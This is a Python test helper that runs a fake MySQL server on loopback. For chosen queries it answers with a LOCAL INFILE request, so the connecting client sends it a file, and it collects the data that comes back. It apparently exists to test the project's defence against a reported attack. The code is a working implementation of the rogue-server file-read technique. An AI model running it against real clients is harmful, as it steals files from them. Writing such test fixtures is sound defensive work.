"""A tiny MySQL-protocol server on loopback that plays a rogue (or intercepting) server.

It accepts any login, answers queries with OK packets (or a small result set for the
loader's column query, so a load gets as far as LOAD DATA) and, for every query that
``trigger`` selects, answers with a LOCAL INFILE request for ``want`` instead: the attack of
issue 11. Whatever file data a client sends back is kept in :attr:`received`.
"""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Callable

# CLIENT_* capabilities: LONG_PASSWORD, FOUND_ROWS, LONG_FLAG, CONNECT_WITH_DB, LOCAL_FILES,
# PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, MULTI_RESULTS, PLUGIN_AUTH. No SSL: a rogue
# server on the path of a plain connection.
CAPS = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000
OK = b"\x00\x00\x00\x02\x00\x00\x00"  # 0 rows, insert id 0, autocommit on, 0 warnings
EOF_PACKET = b"\xfe\x00\x00\x02\x00"
# Columns the loader's information_schema query gets for table "objects" (see schema.py).
OBJECTS_COLUMNS = [("objectId", "varchar", "PRI", "NO", ""), ("ncand", "int", "", "YES", ""),
                   ("ramean", "double", "", "YES", ""), ("decmean", "double", "", "YES", ""),
                   ("gmag", "float", "", "YES", ""), ("ssnamenr", "varchar", "", "YES", "")]


def _lenenc(b: bytes) -> bytes:
    assert len(b) < 251
    return bytes([len(b)]) + b


class RogueServer:
    """Listens on 127.0.0.1:``port``; stop with :meth:`close`."""

    def __init__(self, want: str | Callable[[str], str], trigger: Callable[[str], bool],
                 before_request: Callable[[str], None] | None = None) -> None:
        self.want = want  # the file to ask for, or a function of the query giving it
        self.trigger = trigger
        self.before_request = before_request  # called with the query, before asking
        self.received = bytearray()
        self.queries: list[str] = []
        self.requests = 0  # LOCAL INFILE requests sent
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self._closed = False
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._closed = True
        self.sock.close()

    # -- wire ------------------------------------------------------------------------------
    @staticmethod
    def _send(c: socket.socket, seq: int, payload: bytes) -> None:
        c.sendall(struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload)

    @staticmethod
    def _recv(c: socket.socket) -> tuple[int, bytes] | None:
        head = RogueServer._exact(c, 4)
        if head is None:
            return None
        n = head[0] | head[1] << 8 | head[2] << 16
        body = RogueServer._exact(c, n) if n else b""
        return (head[3], body) if body is not None else None

    @staticmethod
    def _exact(c: socket.socket, n: int) -> bytes | None:
        buf = b""
        while len(buf) < n:
            try:
                chunk = c.recv(n - len(buf))
            except OSError:
                return None
            if not chunk:
                return None
            buf += chunk
        return buf

    # -- server ----------------------------------------------------------------------------
    def _serve(self) -> None:
        while not self._closed:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._session, args=(c,), daemon=True).start()

    def _session(self, c: socket.socket) -> None:
        with c:
            salt = b"abcdefgh" + b"ijklmnopqrst"
            greeting = (b"\x0a" + b"5.5.5-10.11.0-rogue\x00" + struct.pack("<I", 7) + salt[:8]
                        + b"\x00" + struct.pack("<H", CAPS & 0xFFFF) + bytes([45])
                        + struct.pack("<H", 2) + struct.pack("<H", CAPS >> 16) + bytes([21])
                        + b"\x00" * 10 + salt[8:] + b"\x00" + b"mysql_native_password\x00")
            self._send(c, 0, greeting)
            if self._recv(c) is None:  # the login: anything goes
                return
            self._send(c, 2, OK)
            while True:
                pkt = self._recv(c)
                if pkt is None or not pkt[1] or pkt[1][0] == 0x01:  # gone or COM_QUIT
                    return
                body = pkt[1]
                if body[0] != 0x03:  # not COM_QUERY (ping, init db...): fine
                    self._send(c, 1, OK)
                    continue
                query = body[1:].decode("utf-8", errors="replace")
                self.queries.append(query)
                if self.trigger(query):
                    if self.before_request is not None:
                        self.before_request(query)
                    if not self._ask_for_file(c, query):
                        return
                elif "information_schema.COLUMNS" in query:
                    self._columns(c)
                else:
                    self._send(c, 1, OK)

    def _ask_for_file(self, c: socket.socket, query: str) -> bool:
        self.requests += 1
        want = self.want(query) if callable(self.want) else self.want
        self._send(c, 1, b"\xfb" + want.encode())
        while True:
            pkt = self._recv(c)
            if pkt is None:
                return False  # the client hung up: it refused
            if not pkt[1]:
                break  # the empty packet ends the file
            self.received += pkt[1]
        self._send(c, pkt[0] + 1, OK)
        return True

    def _columns(self, c: socket.socket) -> None:
        names = ["COLUMN_NAME", "DATA_TYPE", "COLUMN_KEY", "IS_NULLABLE", "EXTRA"]
        seq = 1
        self._send(c, seq, bytes([len(names)]))
        for name in names:
            seq += 1
            col = (_lenenc(b"def") + _lenenc(b"information_schema") + _lenenc(b"COLUMNS")
                   + _lenenc(b"COLUMNS") + _lenenc(name.encode()) + _lenenc(name.encode())
                   + b"\x0c" + struct.pack("<HIBHB", 33, 255, 0xFD, 0, 0) + b"\x00\x00")
            self._send(c, seq, col)
        seq += 1
        self._send(c, seq, EOF_PACKET)
        for row in OBJECTS_COLUMNS:
            seq += 1
            self._send(c, seq, b"".join(_lenenc(v.encode()) for v in row))
        self._send(c, seq + 1, EOF_PACKET)
